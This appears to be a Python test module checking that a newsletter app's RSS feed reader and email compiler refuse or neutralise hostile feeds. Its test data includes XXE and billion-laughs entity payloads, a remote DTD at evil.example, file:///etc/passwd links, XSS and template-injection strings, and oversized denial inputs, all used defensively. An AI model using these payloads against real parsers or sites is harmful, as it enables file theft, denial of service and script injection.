"""Hostile feeds: what a stranger's server answers harms neither this machine, nor a letter, nor its readers."""

from __future__ import annotations

import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.content import syndication
from app.content.blocks import writing
from app.content.blocks.writing import Block
from app.content.letters import Draft, Prepared
from app.content.letters import write as compile_draft
from app.content.service import feeds
from tests.support import letters, make
from tests.support.feeds import item, rss
from tests.support.properties import examples
from tests.support.webhook import hook

URL = "https://blog.example/feed.xml"
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "0123456789">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY j SYSTEM "file://{}">]>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>'


@pytest.mark.parametrize(
    ("head", "used"), [(BOMB, "&j;"), (OUTSIDE, "&j;"), (PARAMETER, "words"), ('<!DOCTYPE r [<!ENTITY a "&#38;a;">]>', "&a;")]
)
def test_entities_of_its_own_are_refused(tmp_path, monkeypatch, head, used):
    secret = Path(tmp_path / "secret")
    secret.write_text("the secret")
    monkeypatch.setattr("socket.create_connection", lambda *_a, **_k: pytest.fail("a packet left"))
    began = time.process_time()
    with pytest.raises(syndication.NotAFeed, match="entities"):
        syndication.read(rss([item(1).replace("Entry 1", used)], head=head.replace("{}", str(secret))), URL)
    assert time.process_time() - began < 2


def test_a_document_type_alone_is_not_loaded(monkeypatch):
    monkeypatch.setattr("socket.create_connection", lambda *_a, **_k: pytest.fail("a packet left"))
    head = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    assert syndication.read(rss([item(1)], head=head), URL).entries[0].title == "Entry 1"


@pytest.mark.parametrize("body", [b"<a>" * 300_000, b"<rss>" + b"<x>" * 300_000, rss(["<item>" * 50_000])])
def test_depth_without_end_is_refused(body):
    with pytest.raises(syndication.NotAFeed, match="too deep"):
        syndication.read(body, URL)


@pytest.mark.parametrize(
    "body",
    [
        rss([item(n) for n in range(1, 20_000)]),
        rss([item(1, "x" * 2_000_000)]),
        rss([item(1).replace("Words of 1.", "&lt;img " * 100_000)]),
        rss([item(1).replace("Words of 1.", "&amp;" * 150_000)]),
        b"<rss><channel>" + b"&" * 700_000,
        b"<!doctype html>" + b"<link " * 300_000,
        rss([item(1).replace("<item>", f"<item {' '.join(f'a{n}=1' for n in range(100_000))}>")]),
    ],
)
def test_what_is_huge_is_read_in_a_moment_and_cut(body):
    began = time.process_time()
    try:
        feed = syndication.read(body, URL)
    except syndication.NotAFeed:
        feed = syndication.Feed("", ())
    assert time.process_time() - began < 3
    assert len(feed.entries) <= syndication.MOST_ENTRIES
    assert all(len(one.title) <= 200 and len(one.summary) <= 320 for one in feed.entries)


def test_more_than_is_read_is_refused_while_it_comes(tmp_path, monkeypatch):
    with hook(tmp_path, monkeypatch) as web:
        monkeypatch.setattr(feeds, "OCTETS", 2_000)
        web.pages["/feed"] = (200, "text/xml", rss([item(n) for n in range(1, 30)]))
        assert "says more than" in feeds.fetch_feed(web.url.partition("/days")[0] + "/feed").fault


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)", " java\nscript:alert(1)", "data:text/html,<script>", "vbscript:x", "file:///etc/passwd", "mailto:a@b.c",
        "https://user:word@evil.example/", "https:///nohost", "javascript://evil.example/%0aalert(1)", "ftp://evil.example/a", "https://[::1", "//", "",
    ],
)  # fmt: skip
def test_links_lead_to_the_web_or_nowhere(link):
    body = rss([item(1).replace("https://blog.example/1", link.replace("<", "&lt;"))])
    (one,) = syndication.read(body, URL).entries
    assert not one.link or one.link.startswith("https://blog.example/")
    more = f'<enclosure url="{link.replace("<", "&lt;")}" type="image/png"/>'
    (one,) = syndication.read(rss([item(1, more=more)]), URL).entries
    assert not one.picture or one.picture.startswith("https://blog.example/")


def test_addresses_carry_nothing_into_a_letter():
    assert syndication.web_address('https://a.example/"><mj-raw>{{ contact.email }}$brand x', URL) == (
        "https://a.example/%22%3E%3Cmj-raw%3E%7B%7B%20contact.email%20%7D%7D%24brand%20x"
    )
    assert syndication.web_address("https://köln.example/ü", URL) == "https://xn--kln-sna.example/%C3%BC"


@settings(max_examples=examples(25), deadline=None, suppress_health_check=list(HealthCheck))
@given(st.integers(0, 2_000), st.binary(max_size=60), st.integers(0, 40), st.sampled_from(["", "utf-16", "iso-2022-jp", "utf-32", "gb18030"]))
def test_whatever_stands_in_a_feed_it_is_read_or_refused(place, put, gone, said):
    body = rss([item(n, more='<enclosure url="/a.png" type="image/png"/>') for n in range(1, 6)], head=f'<?xml version="1.0" encoding="{said}"?>')
    with suppress(syndication.NotAFeed):
        feed = syndication.read(body[:place] + put + body[place + gone :], URL, f"text/xml; charset={said}")
        assert all(one.title and "\x00" not in one.title + one.summary + one.link for one in feed.entries)



NASTY = [
    "{{ contact.email }}", "{% if contact.email %}x", "{{{ a }}}", "{# gone #}", "nodtag0z nodrich0z NODTAG1z", "<script>alert(1)</script>",
    "</mj-text><mj-raw><b onmouseover=x>", '"><img src=x onerror=y>', "&lt;script&gt;x&lt;/script&gt;", "[[ title ]] [% if x %]",
    "<mj-include path='/etc/passwd' />", "\u202egnp.exe\u2066", "$brand",
]  # fmt: skip


def test_words_of_strangers_are_words():
    entries = syndication.read(rss([item(n, one).replace("Words of", f"{one.replace('<', '&lt;')} Words of") if "&" not in one else item(n, one) for n, one in enumerate(NASTY, start=1)]), URL).entries
    rows = [{"key": one.key, "title": one.title, "summary": one.summary, "link": one.link, "picture": one.picture} for one in entries]
    value = {"url": URL, "feed": "x", "at": "2026-11-22T09:16:00+00:00", "rows": rows, "more": 0, "known": len(rows), "fault": ""}
    block = Block("b1", "feed", {"address": URL, "entries": value, "count": 10, "layout": "full", "label": "Read on"}, {})
    greeting = Block("b2", "text", {"text": "<p>Dear {{ contact.first_name }}</p>", "size": "plain", "align": "left"}, {})
    written = compile_draft(Draft("Subject", "Preview", writing.write([greeting, block, Block("b9", "footer", {}, {})]).mjml))
    assert [one.message for one in written.problems if one.severity == "error"] == []
    page = written.html.lower()
    assert "<script" not in page
    assert "onmouseover=" not in page.replace("onmouseover=x&gt;", "")
    assert "onerror=" not in page.replace("onerror=y&gt;", "")
    assert "\u202e" not in written.html
    assert Prepared(written)


def test_no_merge_tag_of_a_stranger_is_merged_for_a_reader(session):
    place = make.place()
    entry = syndication.read(rss([item(1, "{{ contact.email }} {% if x %} {{{ y }}} nodtag0z")]), URL).entries[0]
    row = {"key": "a", "title": entry.title, "summary": entry.title, "link": "https://a.example/%7B%7Bx", "picture": ""}
    value = {"url": URL, "feed": "x", "at": "2026-11-22T09:16:00+00:00", "rows": [row], "known": 1}
    block = Block("b1", "feed", {"address": URL, "entries": value, "count": 1, "layout": "full", "label": ""}, {})
    written = compile_draft(Draft("S", "P", writing.write([block, Block("b9", "footer", {}, {})]).mjml))
    assert written.is_usable, written.problems
    shown = Prepared(written).merge(letters.values(place.id))
    for part in (shown.html, shown.text):
        plain = part.replace("\u2060", "")
        assert "{{ contact.email }} {% if x %} {{{ y }}} nodtag0z" in plain
    assert shown.html.count("mara@example.org") <= 1  # the footer's own, if any
